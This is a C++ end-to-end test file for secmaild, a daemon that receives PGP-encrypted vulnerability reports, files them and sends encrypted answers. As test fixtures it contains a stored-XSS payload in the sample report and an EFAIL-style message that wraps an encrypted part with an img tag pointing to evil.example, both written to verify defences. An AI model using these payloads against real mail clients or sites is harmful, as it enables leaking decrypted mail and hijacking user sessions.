// secmaild with OpenPGP, end to end: keys made with `secmailctl key init` and
// the gpg command line, reports written by real mutt (PGP/MIME) or gpg
// (inline), delivered through the test Postfix to Dovecot, `secmaild --once`
// as a process, and the answers read back over IMAP and decrypted or
// verified as the researcher would, with the gpg command line.
#include <doctest/doctest.h>

#include <unistd.h>

#include <fstream>
#include <sstream>

#include "pgp_fixture.hpp"

using namespace secmaild;
using namespace secmaild::testing;
using namespace secmaild::testing::e2e;

namespace {

const std::string kReport =
    "Description: Stored XSS in the chat title, marker Walrus9Payload.\n\nSteps to reproduce:\n"
    "1. Name a chat <script>alert(1)</script>\n2. Share it with another user\n\n"
    "Impact: an attacker runs script in another user's session, or a denial of service.\n\n"
    "Affected version: 0.2.3\n\n"
    "CVSS: CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N\n";
const std::string kSecretWords[] = {"Walrus9Payload", "chat title", "alert(1)", "another user's session"};

std::string fileText(const std::filesystem::path& p) {
    std::ifstream in(p, std::ios::binary);
    std::ostringstream s;
    s << in.rdbuf();
    return s.str();
}

}  // namespace

TEST_CASE("a PGP/MIME report from mutt is decrypted and filed; the answer is encrypted to the key it carried") {
    PgpFixture p;
    MuttMail mail;
    mail.to = kSecurity;
    mail.subject = "Security issue";
    mail.body = kReport;
    mail.crypto = MuttCrypto::SignEncrypt;
    mail.attachPublicKey = true;
    p.f_.deliver(p.mutt(mail, p.researcher_));
    REQUIRE(p.f_.once().ok());

    auto shown = p.f_.ctlJson("show SEC-2026-0001");
    CHECK(shown["fields_missing"].empty());
    CHECK(shown["reporter_key"] == p.researcher_.fingerprint);
    auto pgp = shown["messages"][0]["openpgp"];
    CHECK(pgp["encrypted"] == true);
    CHECK(pgp["decrypted"] == true);
    REQUIRE(pgp["signatures"].size() == 1);
    CHECK(pgp["signatures"][0]["status"] == "valid");
    CHECK(pgp["signatures"][0]["signer"] == "reporter");
    CHECK(pgp["signatures"][0]["fingerprint"] == p.researcher_.fingerprint);
    bool described = false;
    for (const auto& field : shown["fields"])
        if (field["name"] == "description")
            described = field["value"].get<std::string>().find("Walrus9Payload") != std::string::npos;
    CHECK(described);

    auto answers = p.rawInbox(kResearcher, 1);
    REQUIRE(answers.size() == 1);
    auto outer = mime::parseMessage(answers[0]);
    CHECK(outer.subject == "[SEC-2026-0001] Re: Security issue");
    CHECK(outer.header("Auto-Submitted") == "auto-replied");
    auto inner = p.decryptMail(p.researcher_, answers[0]);
    CHECK(inner.decrypted);
    CHECK(inner.goodSignature);
    CHECK(inner.signerFingerprint == p.ourFingerprint_);
    CHECK(inner.plaintext.find("SEC-2026-0001") != std::string::npos);
    for (const auto& word : kSecretWords) CHECK(inner.plaintext.find(word) == std::string::npos);

    // The maintainer's notice carries the fields, encrypted to the maintainer's key.
    auto notices = p.rawInbox(kLead, 1);
    REQUIRE(notices.size() == 1);
    CHECK(mime::parseMessage(notices[0]).subject == "[SEC-2026-0001] New security report");
    for (const auto& word : kSecretWords) CHECK(notices[0].find(word) == std::string::npos);
    auto notice = p.decryptMail(p.lead_, notices[0]);
    CHECK(notice.goodSignature);
    CHECK(notice.plaintext.find("Walrus9Payload") != std::string::npos);
    // The CVSS vector's score and rating, as a hint for the assessment (FIRST's calculator: 6.1, medium).
    CHECK(notice.plaintext.find("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N scores 6.1: medium") !=
          std::string::npos);
    // The words "denial of service" suggest a category the seed puts out of scope: a hint only.
    CHECK(notice.plaintext.find("may be out of scope") != std::string::npos);
    CHECK(notice.plaintext.find("- Denial of service (DoS) attacks") != std::string::npos);
    CHECK(shown["state"] != "closed");

    // Nothing of the report is readable in the store's files.
    p.f_.secmailctl("list");  // a reader; the daemon has exited
    std::string onDisk = fileText(p.f_.dir() / "store.db") + fileText(p.f_.dir() / "store.db-wal");
    CHECK(onDisk.size() > 10000);
    for (const auto& word : kSecretWords) CHECK(onDisk.find(word) == std::string::npos);
    // A maintainer reads the archive with their own key, without secmaild's.
    auto archived = p.f_.secmailctl("--gnupg-home " + p.lead_.home.string() + " show SEC-2026-0001");
    CHECK(archived.ok());
    CHECK(archived.out.find("Walrus9Payload") != std::string::npos);
}

TEST_CASE("a report we cannot decrypt is filed and flagged, and answered signed in clear with our fingerprint") {
    PgpFixture p;
    auto stranger = p.identity("s", "Someone Else", "other@elsewhere.example");
    auto strangerKey = exportPublicKey(stranger);
    REQUIRE(strangerKey);
    REQUIRE(importPublicKey(p.researcher_, *strangerKey));
    MuttMail mail;
    mail.to = kSecurity;
    mail.subject = "Encrypted to the wrong key";
    mail.body = kReport;
    mail.crypto = MuttCrypto::SignEncrypt;
    // mutt encrypts to the key of the address in To; here To is ours but the
    // only key it finds for it is the stranger's, so the test builds the mail
    // with gpg instead: inline, encrypted to the stranger.
    auto armored = gpgArmor(p.researcher_, stranger.fingerprint, kReport, InlineKind::EncryptSign);
    REQUIRE(armored);
    p.f_.deliver(plainMessage("Jane Researcher", kResearcher, kSecurity, "Encrypted to the wrong key", *armored));
    REQUIRE(p.f_.once().ok());
    stopAgent(stranger);

    auto shown = p.f_.ctlJson("show SEC-2026-0001");
    auto message = shown["messages"][0];
    CHECK(message["outcome"] == "new-report");
    CHECK(std::find(message["flags"].begin(), message["flags"].end(), "not-decrypted") != message["flags"].end());
    CHECK(message["openpgp"]["layers"][0]["decryption"] == "no-secret-key");
    auto answers = p.rawInbox(kResearcher, 1);
    REQUIRE(answers.size() == 1);
    auto signedAck = p.verifyMail(p.researcher_, answers[0]);
    CHECK(signedAck.goodSignature);
    CHECK(signedAck.signerFingerprint == p.ourFingerprint_);
    CHECK(signedAck.plaintext.find("could not decrypt") != std::string::npos);
    CHECK(signedAck.plaintext.find(p.ourFingerprint_) != std::string::npos);
    CHECK(signedAck.plaintext.find("https://example.org/.well-known/security.asc") != std::string::npos);
}

TEST_CASE("EFAIL-style wrapping: clear parts around an encrypted part stay apart and nothing is echoed") {
    PgpFixture p;
    MuttMail mail;
    mail.to = kSecurity;
    mail.subject = "Report";
    mail.body = kReport;
    auto encrypted = mime::parseMessage(p.mutt(mail, p.researcher_));
    REQUIRE(encrypted.parts.size() == 3);
    // The attacker re-wraps the encrypted part between clear parts of their own.
    std::string mpEncrypted = p.mutt(mail, p.researcher_);
    auto bodyStart = mpEncrypted.find("\r\n\r\n");
    std::string encryptedHeaders = mpEncrypted.substr(0, bodyStart);
    auto ct = encryptedHeaders.find("Content-Type:");
    auto ctEnd = encryptedHeaders.find("\r\n", ct);
    while (ctEnd + 2 < encryptedHeaders.size() && (encryptedHeaders[ctEnd + 2] == ' ' || encryptedHeaders[ctEnd + 2] == '\t'))
        ctEnd = encryptedHeaders.find("\r\n", ctEnd + 2);
    std::string wrapped =
        "From: Jane Researcher <" + kResearcher + ">\r\nTo: " + kSecurity +
        "\r\nSubject: Report\r\nMessage-ID: <efail@researcher.example>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n--outer\r\nContent-Type: text/plain\r\n\r\n"
        "Attacker prefix Heron3Exfil <img src=\"http://evil.example/?\r\n--outer\r\n" +
        encryptedHeaders.substr(ct, ctEnd - ct) + "\r\n\r\n" + mpEncrypted.substr(bodyStart + 4) +
        "\r\n--outer\r\nContent-Type: text/html\r\n\r\n\">Attacker suffix Heron3Exfil</html>\r\n--outer--\r\n";
    p.f_.deliver(wrapped);
    REQUIRE(p.f_.once().ok());

    auto shown = p.f_.ctlJson("show SEC-2026-0001");
    auto message = shown["messages"][0];
    CHECK(std::find(message["flags"].begin(), message["flags"].end(), "unauthenticated-text") !=
          message["flags"].end());
    CHECK(message["openpgp"]["decrypted"] == true);
    for (const auto& field : shown["fields"]) CHECK(field["value"].get<std::string>().find("Heron3Exfil") == std::string::npos);
    REQUIRE(shown["unauthenticated_text"].size() == 1);
    CHECK(shown["unauthenticated_text"][0]["text"].get<std::string>().find("Heron3Exfil") != std::string::npos);
    // No key of Jane's came with this mail: the answer is signed, in clear.
    auto answers = p.rawInbox(kResearcher, 1);
    REQUIRE(answers.size() == 1);
    auto signedAck = p.verifyMail(p.researcher_, answers[0]);
    CHECK(signedAck.goodSignature);
    for (const auto& word : kSecretWords) CHECK(answers[0].find(word) == std::string::npos);
    CHECK(answers[0].find("Heron3Exfil") == std::string::npos);
}

TEST_CASE("a forwarded encrypted report from a new sender becomes a new report whose answer holds no plaintext") {
    PgpFixture p;
    MuttMail mail;
    mail.to = kSecurity;
    mail.subject = "Original report";
    mail.body = kReport;
    std::string original = p.mutt(mail, p.researcher_);
    // Max re-sends Jane's encrypted mail as his own (the decryption-oracle attempt).
    auto headerEnd = original.find("\r\n\r\n");
    std::string forwarded = original;
    auto from = forwarded.find("From: ");
    auto fromEnd = forwarded.find("\r\n", from);
    forwarded.replace(from, fromEnd - from, "From: Max <" + kOther + ">");
    auto mid = forwarded.find("Message-ID: ");
    if (mid != std::string::npos && mid < headerEnd)
        forwarded.replace(mid, forwarded.find("\r\n", mid) - mid, "Message-ID: <fwd@researcher.example>");
    p.f_.deliver(forwarded, kOther);
    REQUIRE(p.f_.once().ok());

    auto listed = p.f_.ctlJson("list");
    REQUIRE(listed["reports"].size() == 1);
    CHECK(listed["reports"][0]["reporter"] == kOther);
    auto answers = p.rawInbox(kOther, 1);
    REQUIRE(answers.size() == 1);
    // Max has no key with us: the answer is signed clear text, and holds nothing of the report.
    for (const auto& word : kSecretWords) CHECK(answers[0].find(word) == std::string::npos);
    auto text = mime::parseMessage(answers[0]).text;
    CHECK(text.find("SEC-2026-0001") != std::string::npos);
    for (const auto& word : kSecretWords) CHECK(text.find(word) == std::string::npos);
}

TEST_CASE("inline PGP from the gpg command line is decrypted, and a second, different key for the address is refused") {
    PgpFixture p;
    auto armored = gpgArmor(p.researcher_, p.ourFingerprint_, kReport, InlineKind::EncryptSign);
    REQUIRE(armored);
    auto key = exportPublicKey(p.researcher_);
    REQUIRE(key);
    p.f_.deliver(plainMessage("Jane Researcher", kResearcher, kSecurity, "Inline report",
                              "Hello,\n\n" + *armored + "\nMy key:\n\n" + *key));
    REQUIRE(p.f_.once().ok());
    auto shown = p.f_.ctlJson("show SEC-2026-0001");
    CHECK(shown["fields_missing"].empty());
    CHECK(shown["reporter_key"] == p.researcher_.fingerprint);

    // Someone else sends a key for Jane's address: it is not taken.
    auto impostor = p.identity("i", "Jane Researcher", kResearcher);
    auto impostorKey = exportPublicKey(impostor);
    REQUIRE(impostorKey);
    p.f_.deliver(plainMessage("Jane Researcher", kResearcher, kSecurity, "Second report",
                              kReport + "\nMy new key:\n\n" + *impostorKey));
    REQUIRE(p.f_.once().ok());
    stopAgent(impostor);
    auto second = p.f_.ctlJson("show SEC-2026-0002");
    CHECK(second["reporter_key"] == p.researcher_.fingerprint);
    auto flags = second["messages"][0]["flags"];
    CHECK(std::find(flags.begin(), flags.end(), "key-conflict") != flags.end());
    // Both answers are encrypted to the first key.
    auto answers = p.rawInbox(kResearcher, 2);
    REQUIRE(answers.size() == 2);
    for (const auto& a : answers) CHECK(p.decryptMail(p.researcher_, a).decrypted);
}

TEST_CASE("two reports in one pass, read ahead in the GPGME workers: the second is signed by the key the first brought") {
    PgpFixture p;
    MuttMail first;
    first.to = kSecurity;
    first.subject = "Security issue";
    first.body = kReport;
    first.crypto = MuttCrypto::SignEncrypt;
    first.attachPublicKey = true;
    MuttMail second = first;
    second.subject = "A second issue";
    second.attachPublicKey = false;
    p.f_.deliver(p.mutt(first, p.researcher_));
    p.f_.deliver(p.mutt(second, p.researcher_));
    auto run = p.f_.once();
    REQUIRE(run.ok());
    // Both were decrypted by the worker processes, not by the daemon itself.
    CHECK(run.err.find("gpg.workers readers=2 signers=2") != std::string::npos);
    CHECK(run.err.find("gpg.worker_failed") == std::string::npos);

    // The second was read (in a worker) before the first's key was imported;
    // it was checked again after the import, so its signature shows as valid.
    auto shown = p.f_.ctlJson("show SEC-2026-0002");
    auto pgp = shown["messages"][0]["openpgp"];
    CHECK(pgp["decrypted"] == true);
    REQUIRE(pgp["signatures"].size() == 1);
    CHECK(pgp["signatures"][0]["status"] == "valid");
    CHECK(pgp["signatures"][0]["signer"] == "reporter");
    CHECK(shown["fields_missing"].empty());
    // Both answers were signed and encrypted by the signer workers.
    auto answers = p.rawInbox(kResearcher, 2);
    REQUIRE(answers.size() == 2);
    for (const auto& a : answers) {
        auto inner = p.decryptMail(p.researcher_, a);
        CHECK(inner.decrypted);
        CHECK(inner.goodSignature);
        CHECK(inner.signerFingerprint == p.ourFingerprint_);
    }
}

TEST_CASE("key init refuses to write a GnuPG home another user owns, and says which user to run it as") {
    // The Fixture alone: no key yet. A home owned by nobody, as /var/lib/secmaild/gnupg
    // is owned by secmaild while an admin runs secmailctl as root.
    testing::e2e::Fixture f;
    const auto home = f.dir() / "gnupg-other";
    std::filesystem::create_directory(home);
    REQUIRE(::chown(home.c_str(), 65534, 65534) == 0);
    {
        std::ofstream(f.config(), std::ios::app) << "[gpg]\nhome = \"" << home.string() << "\"\n";
    }
    auto r = f.secmailctl("key init");
    CHECK(r.exitCode == 77);
    CHECK(r.err.find("belongs to nobody") != std::string::npos);
    CHECK(r.err.find("runuser -u nobody -- secmailctl") != std::string::npos);
    CHECK(std::filesystem::is_empty(home));
}
